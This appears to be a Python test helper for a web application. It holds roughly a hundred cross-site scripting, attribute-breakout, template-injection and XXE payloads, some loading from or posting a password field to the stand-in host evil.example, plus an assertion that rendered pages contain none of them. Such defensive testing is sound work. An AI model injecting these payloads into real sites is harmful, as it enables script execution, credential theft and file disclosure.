"""A hundred texts that would run a script, load something or break out of their place, wherever a
page put one of them in without care; all made to be shown as they are."""

from __future__ import annotations

from html.parser import HTMLParser

_CODE = "alert(1)"

_ELEMENTS = [
    f"<script>{_CODE}</script>",
    f"<SCRIPT>{_CODE}</SCRIPT>",
    "<script src=//evil.example></script>",
    f"<script/x>{_CODE}</script/x>",
    f"<script\n>{_CODE}</script\n>",
    f"<scr<script>ipt>{_CODE}</scr</script>ipt>",
    f"</script><script>{_CODE}</script>",
    f"</SCRIPT ><svg onload={_CODE}>",
    f"</style><script>{_CODE}</script>",
    f"</title><script>{_CODE}</script>",
    f"</textarea><script>{_CODE}</script>",
    f"</noscript><script>{_CODE}</script>",
    f"</template><script>{_CODE}</script>",
    f"</ol></li><script>{_CODE}</script>",
    f"</article><img src=x onerror={_CODE}>",
    f"]]><script>{_CODE}</script>",
    f"]]></content><script xmlns='http://www.w3.org/1999/xhtml'>{_CODE}</script>",
    f"--><script>{_CODE}</script>",
    f"<!--<script>{_CODE}//-->",
    f"<![CDATA[<script>{_CODE}</script>]]>",
    f"<?xml version='1.0'?><script>{_CODE}</script>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    f"<svg><script>{_CODE}</script></svg>",
    f"<svg/onload={_CODE}>",
    f"<svg><animate onbegin={_CODE} attributeName=x dur=1s>",
    f"<svg><set onbegin={_CODE} attributeName=x>",
    f"<svg><a xlink:href=javascript:{_CODE}><text y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x></svg>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_CODE}></style></mglyph></math>",
    f"<math href=javascript:{_CODE}>x</math>",
    f"<img src=x onerror={_CODE}>",
    f"<img src=x onerror='{_CODE}'//",
    f'<IMG SRC="javascript:{_CODE}">',
    f"<img src=`x` onerror={_CODE}>",
    f"<img/src=x/onerror={_CODE}>",
    f"<img src=x:{_CODE} onerror=eval(src)>",
    f"<image src=x onerror={_CODE}>",
    f"<body onload={_CODE}>",
    f"<body background=javascript:{_CODE}>",
    f"<iframe src=javascript:{_CODE}></iframe>",
    f"<iframe srcdoc='<script>{_CODE}</script>'></iframe>",
    "<iframe src=//evil.example>",
    f"<object data=javascript:{_CODE}></object>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    f"<embed src=javascript:{_CODE}>",
    f"<video><source onerror={_CODE}></video>",
    f"<video src=x onerror={_CODE}>",
    f"<audio src=x onerror={_CODE}>",
    f"<details open ontoggle={_CODE}>",
    f"<marquee onstart={_CODE}>",
    f"<input autofocus onfocus={_CODE}>",
    f"<select autofocus onfocus={_CODE}>",
    f"<textarea autofocus onfocus={_CODE}>",
    f"<button formaction=javascript:{_CODE}>x</button>",
    f"<form action=javascript:{_CODE}><input type=submit></form>",
    "<form action=//evil.example><input name=password>",
    f"<isindex action=javascript:{_CODE} type=image>",
    f"<keygen autofocus onfocus={_CODE}>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example>",
    f"<link rel=import href=data:text/html,<script>{_CODE}</script>>",
    f"<meta http-equiv=refresh content=0;url=javascript:{_CODE}>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    f"<div style=width:expression({_CODE})>",
    f'<div style="background:url(javascript:{_CODE})">',
    f"<a href=javascript:{_CODE}>x</a>",
    f'<a href="java\tscript:{_CODE}">x</a>',
    f"<a href=JaVaScRiPt:{_CODE}>x</a>",
    f"<a href=&#106;avascript:{_CODE}>x</a>",
    f"<a href=data:text/html,<script>{_CODE}</script>>x</a>",
    f"<a href=vbscript:{_CODE}>x</a>",
    f"<x onclick={_CODE}>x</x>",
    f"<x contenteditable onblur={_CODE}>x</x>",
    f"<xss style=animation-name:x onanimationstart={_CODE}>",
    f"<custom-element onpointerover={_CODE}>x</custom-element>",
    f"<template><script>{_CODE}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={_CODE}>">',
    f"<table background=javascript:{_CODE}>",
    f"<portal src=javascript:{_CODE}>",
    "<plaintext>",
    "<xmp>",
]
_BREAKOUTS = [
    f'" onmouseover="{_CODE}',
    f"' onmouseover='{_CODE}",
    f'"><script>{_CODE}</script>',
    f"'><script>{_CODE}</script>",
    f"` onmouseover={_CODE} `",
    f'"}};{_CODE};//',
    f"';{_CODE};//",
    f'\\";{_CODE};//',
    f"</script>\u2028{_CODE}",
    f"javascript:{_CODE}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{7*7}}",
    "${alert(1)}",
    "<%= 7*7 %>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]
PAYLOADS = tuple(_ELEMENTS + _BREAKOUTS)


class Elements(HTMLParser):
    """What a browser makes of a page: its elements, their attributes, its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


HARMLESS = frozenset(
    [
        "html",
        "head",
        "meta",
        "title",
        "link",
        "body",
        "div",
        "header",
        "main",
        "section",
        "article",
        "h1",
        "h2",
        "p",
        "a",
        "b",
        "bdi",
        "br",
        "time",
        "ol",
        "ul",
        "li",
        "blockquote",
        "footer",
        "span",
        "form",
        "input",
        "label",
        "textarea",
        "button",
    ]
)


#: What moderators' pages are made of besides.
AT_THE_DESK = HARMLESS | {
    "aside",
    "caption",
    "circle",
    "code",
    "dd",
    "details",
    "dialog",
    "dl",
    "dt",
    "fieldset",
    "h3",
    "kbd",
    "legend",
    "line",
    "mark",
    "nav",
    "option",
    "path",
    "progress",
    "rect",
    "select",
    "small",
    "strong",
    "summary",
    "sup",
    "svg",
    "symbol",
    "table",
    "tbody",
    "td",
    "text",
    "th",
    "thead",
    "tr",
    "use",
}


def assert_nothing_runs(
    html: str, *, made_of: frozenset[str] = HARMLESS, scripts: str = ""
) -> None:
    """No element but those of our own pages, no handler, no address but of http(s) or our own; no
    script but data and the files under `scripts`."""
    for tag, attributes in Elements(html).elements:
        if tag == "script":
            own = scripts and str(attributes.get("src")).startswith(scripts)
            kind = "module" if own else "application/ld+json"
            assert attributes == {"type": kind} | ({"src": attributes["src"]} if own else {})
            continue
        assert tag in made_of, tag
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in {"style", "srcdoc", "background"}, (tag, name)
            if name in {"href", "src", "action", "cite", "formaction"}:
                assert (value or "").startswith(("https://", "http://", "/", "?", "#")), value
                assert "evil.example" not in (value or ""), value
            if tag == "meta":
                assert "http-equiv" not in attributes
